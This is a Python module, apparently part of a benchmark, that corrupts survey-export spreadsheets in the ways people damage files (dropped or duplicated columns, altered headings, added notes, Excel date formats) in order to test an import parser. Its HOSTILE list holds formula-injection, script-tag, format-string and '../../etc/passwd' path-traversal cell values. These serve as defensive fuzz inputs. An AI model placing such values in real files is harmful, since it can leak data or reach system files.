"""Damage to the records of a file: what people do to an export before they send it on."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import datetime
from html import escape
from random import Random

from alliance_analytics.intake.platforms.answers_to_write import AnswersToWrite
from benchmarks.mutations.sheet import Cell, Record, Sheet

Respell = Callable[[str], str]
HOSTILE: tuple[Cell, ...] = (
    '=HYPERLINK("http://example.org/"&A1,"Agree")',
    "=1+1",
    "+31 6 12345678",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    "<script>Agree()</script>!!",
    "\u202eeergA",
    "\u0645\u0648\u0627\u0641\u0642 \u0628\u0634\u062f\u0629",
    "NaN",
    "nan",
    "None",
    "null",
    "#REF!",
    "#N/A",
    "Agree; Disagree",
    "Agree Disagree",
    "not Agree",
    "Agree?? no, disagree",
    "99",
    "-1",
    "0",
    "6",
    "3,5",
    "1e0",
    "\u0663",
    "\u2462",
    "01-May",
    "2025-05-01 00:00:00",
    "x" * 40_000,
    "👍",
    '"',
    "''",
    "{question_not_shown}x",
    "%s%n{0}",
    "../../etc/passwd",
    "Mail me: a.person@example.org",
)
NUMBERS = frozenset({"0", "6", "\u0663", "\u2462"})
NOTES = ("Total", "Average", "Note: still to be checked", "Ordinal", "n = 12")


def heading_replaced(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    return _in_headings(sheet, chance, survey, lambda text: "Something that nobody asked for today")


def heading_with_a_slip(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    def change(text: str) -> str:
        place = chance.randrange(len(text))
        return text[:place] + chance.choice("aeiounrst ") + text[place + 1 :]

    return _in_headings(sheet, chance, survey, change)


def heading_cut_short(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    return _in_headings(sheet, chance, survey, lambda text: text[: chance.randint(1, len(text))] + "...")


def headings_all_cut(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    length = chance.randint(8, 60)
    return _every_heading(sheet, lambda text: text[:length])


def headings_with_entities(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    return _every_heading(
        sheet, lambda text: text if "ImportId" in text else escape(text).replace(" ", "&nbsp;", 1)
    )


def headings_with_markup(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    return _in_headings(sheet, chance, survey, lambda text: f"<span style='color:red'>{text}</span><br/>")


def headings_with_spaces(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    space = chance.choice(("\u00a0", "  ", " \n", "\t"))
    return _in_headings(sheet, chance, survey, lambda text: space.join(text.split(" ")) + space)


def headings_in_capitals(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    return _in_headings(sheet, chance, survey, str.upper)


def heading_emptied(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    return _in_headings(sheet, chance, survey, lambda text: "")


def column_deleted(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    gone = _asked_columns(sheet, chance, survey)
    return sheet.with_columns([column for column in range(sheet.width) if column not in gone])


def administration_deleted(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Delete some of the columns that the platform filled in by itself."""
    asked = {column for item in survey.instrument.items for column in sheet.columns_of(item.id, survey)}
    kept = [column for column in range(sheet.width) if column in asked or chance.random() < 0.5]
    return sheet.with_columns(kept)


def column_twice(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Repeat a column with all that is in it."""
    twice = _asked_columns(sheet, chance, survey)
    place = chance.choice((0, twice[0], sheet.width))
    columns = list(range(sheet.width))
    return sheet.with_columns([*columns[:place], *twice, *columns[place:]])


def heading_twice(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Put the heading of one column also above the answers to another statement."""
    first, second = chance.sample(survey.instrument.scored, 2)
    source, target = sheet.columns_of(first.id, survey), sheet.columns_of(second.id, survey)
    headings = [
        _moved(record, dict(zip(target, source, strict=False))) for record in sheet.records[: sheet.headers]
    ]
    return replace(sheet, records=(*headings, *sheet.records[sheet.headers :]))


def column_twice_recoded(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Add a copy of a statement with other answers in it, as people do who recode."""
    twice = chance.choice(_asked_columns(sheet, chance, survey))
    wider = sheet.with_columns([*range(sheet.width), twice])
    changed = [
        (*record[:-1], chance.choice([*survey.labels.values()])) if any(record) else record
        for record in wider.records[sheet.headers :]
    ]
    return replace(wider, records=(*wider.records[: sheet.headers], *changed))


def columns_in_another_order(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    return sheet.with_columns(chance.sample(range(sheet.width), sheet.width))


def column_of_numbers_added(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Add a column of somebody's own, headed or not, anywhere."""
    heading = chance.choice(("", "Score", "Age", "Q99", "Unnamed: 3"))
    place = chance.choice((0, sheet.width, chance.randint(0, sheet.width)))
    records = [
        (*record[:place], heading if row < sheet.headers else str(chance.randint(1, 5)), *record[place:])
        for row, record in enumerate(sheet.records)
    ]
    return replace(sheet, records=tuple(records))


def row_names_added(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Number the records in a first column without a heading, as R and pandas do."""
    records = [
        ("" if row < sheet.headers else str(row - sheet.headers), *record)
        for row, record in enumerate(sheet.records)
    ]
    return replace(sheet, records=tuple(records))


def header_record_deleted(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    gone = chance.randrange(sheet.headers)
    return replace(sheet.with_record(gone), headers=sheet.headers - 1)


def header_record_blanked(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    return sheet.with_record(chance.randrange(sheet.headers), ("",) * sheet.width)


def blank_header_record_added(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    place = chance.randint(0, sheet.headers)
    return sheet.with_record(place, ("",) * sheet.width, sheet.records[place])


def title_above(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    title = ("Results of the yearly evaluation", *[""] * (sheet.width - 1))
    return sheet.with_record(0, title, sheet.records[0])


def header_records_swapped(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    headings = chance.sample(sheet.records[: sheet.headers], sheet.headers)
    return replace(sheet, records=(*headings, *sheet.records[sheet.headers :]))


def headers_again_below(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Repeat the header records among the answers, as when two exports are put one below the other."""
    place = chance.choice(sheet.people)
    headings = sheet.records[: sheet.headers]
    return sheet.with_record(place, *headings, sheet.records[place])


def stacked_with_itself(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Put the whole export below itself, without its header records."""
    return replace(sheet, records=(*sheet.records, *sheet.records[sheet.headers :]))


def records_in_another_order(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    people = sheet.records[sheet.headers :]
    return replace(sheet, records=(*sheet.records[: sheet.headers], *chance.sample(people, len(people))))


def blank_records_between(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    blank = chance.choice((("",) * sheet.width, (" ",) * sheet.width, ("",)))
    changed = sheet
    for place in sorted(chance.sample(sheet.people, min(4, len(sheet.people))), reverse=True):
        changed = changed.with_record(place, blank, changed.records[place])
    return changed


def note_below(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Write a note of one's own into one cell below the answers, but not where anybody may write anything."""
    asked = [item for item in survey.instrument.items if item.kind == "open"]
    open_ = {column for item in asked for column in sheet.columns_of(item.id, survey)}
    record = [""] * sheet.width
    places = [place for place in range(sheet.width) if place not in open_]
    record[chance.choice((0, chance.choice(places)))] = chance.choice(NOTES)
    return replace(sheet, records=(*sheet.records, tuple(record)))


def averages_below(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Write a number below every statement, as people do who count in the file itself."""
    asked = {column for item in survey.instrument.scored for column in sheet.columns_of(item.id, survey)}
    whole = chance.random() < 0.5
    record = [
        (str(chance.randint(1, 5)) if whole else f"{chance.uniform(1, 5):.2f}") if column in asked else ""
        for column in range(sheet.width)
    ]
    return replace(sheet, records=(*sheet.records, tuple(record)))


def levels_of_measurement_below(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    record = tuple(chance.choice(("Ordinal", "Nominal", "Ratio")) for _ in range(sheet.width))
    return replace(sheet, records=(*sheet.records, record))


def record_again_at_the_end(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    return replace(sheet, records=(*sheet.records, sheet.records[chance.choice(sheet.people)]))


def cells_lost_at_the_end(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Cut cells off one record, as when a line end stood unquoted in a comment."""
    row = chance.choice(sheet.people)
    return sheet.with_record(row, sheet.records[row][: chance.randint(1, sheet.width - 1)])


def cell_too_many(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Push the cells of one record to the right, as an unquoted comma does."""
    row, place = chance.choice(sheet.people), chance.randrange(sheet.width)
    record = sheet.records[row]
    return sheet.with_record(row, (*record[:place], " that is", *record[place:]))


def record_torn_in_two(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    row, place = chance.choice(sheet.people), chance.randint(1, sheet.width - 1)
    record = sheet.records[row]
    return sheet.with_record(row, record[:place], record[place:])


def cells_moved_left(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Take a cell out of the administration of one record, and put a blank one at its end."""
    row = chance.choice(sheet.people)
    place = chance.randrange(3)
    record = sheet.records[row]
    return sheet.with_record(row, (*record[:place], *record[place + 1 :], ""))


def hostile_answer(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Put a text that was made to do harm in the place of an answer."""
    column = chance.choice(_asked_columns(sheet, chance, survey))
    return sheet.with_cell(chance.choice(sheet.people), column, _hostile(chance, survey))


def hostile_cell(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Put a text that was made to do harm in any cell, headings included."""
    row = chance.randrange(sheet.people[-1] + 1)
    return sheet.with_cell(row, chance.randrange(sheet.width), _hostile(chance, survey))


def answers_turned_into_dates(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    column = chance.choice(_asked_columns(sheet, chance, survey))
    changed = sheet
    for row in chance.sample(sheet.people, min(3, len(sheet.people))):
        changed = changed.with_cell(row, column, chance.choice(("01-May", "5-1-2025", "45778", "May-25")))
    return changed


def numbers_among_labels(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Put the number of another point in the place of a label, in one column."""
    item = chance.choice(survey.instrument.scored)
    columns = sheet.columns_of(item.id, survey)
    changed = sheet
    for row in chance.sample(sheet.people, min(chance.randint(1, 4), len(sheet.people))):
        changed = changed.with_cell(row, columns[0], str(chance.randint(1, 5)))
    return changed


def cells_padded(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Put white space around every cell."""
    records = [
        tuple(f" {cell}\u00a0" if isinstance(cell, str) and cell else cell for cell in record)
        for record in sheet.records
    ]
    return replace(sheet, records=tuple(records))


def partner_respelt(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    (column, *_) = sheet.columns_of("PARTNER", survey)
    row = chance.choice(sheet.people)
    written = str(sheet.records[row][column])
    ways = (written.upper(), f" {written} ", written[:-1], f"{written} (NL)", "Somebody else", "7")
    return sheet.with_cell(row, column, chance.choice(ways))


def times_turned_into_texts(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> Sheet:
    """Write every moment as Excel shows it when a file was opened and saved."""
    records = [
        tuple(_as_excel_shows(cell) if row >= sheet.headers else cell for cell in record)
        for row, record in enumerate(sheet.records)
    ]
    return replace(sheet, records=tuple(records))


def _hostile(chance: Random, survey: AnswersToWrite) -> Cell:
    """Return a text that is no answer; where numbers are answers, it is no number that could be one."""
    return chance.choice([cell for cell in HOSTILE if survey.codes is None or cell not in NUMBERS])


def _as_excel_shows(cell: Cell) -> Cell:
    if isinstance(cell, datetime):
        return f"{cell:%d/%m/%Y %H:%M}"
    if isinstance(cell, str) and len(cell) >= 19 and cell[:4] == "2025" and cell[4] in "-/":
        return f"{cell[8:10]}/{cell[5:7]}/2025 {cell[11:16]}"
    return cell


def _asked_columns(sheet: Sheet, chance: Random, survey: AnswersToWrite) -> list[int]:
    item = chance.choice([*survey.instrument.scored, *survey.instrument.items[:2]])
    return sheet.columns_of(item.id, survey)


def _in_headings(sheet: Sheet, chance: Random, survey: AnswersToWrite, change: Respell) -> Sheet:
    """Return the sheet with what stands above one question changed, wherever it stands."""
    columns = _asked_columns(sheet, chance, survey)
    changed = sheet
    for row in range(sheet.headers):
        for column in columns:
            text = str(sheet.records[row][column])
            if text and "ImportId" not in text and text not in {"Response", survey.stem}:
                changed = changed.with_cell(row, column, change(text))
    return changed


def _every_heading(sheet: Sheet, change: Respell) -> Sheet:
    headings = [
        tuple(change(str(cell)) if cell else cell for cell in record)
        for record in sheet.records[: sheet.headers]
    ]
    return replace(sheet, records=(*headings, *sheet.records[sheet.headers :]))


def _moved(record: Record, places: dict[int, int]) -> Record:
    return tuple(record[places.get(column, column)] for column in range(len(record)))
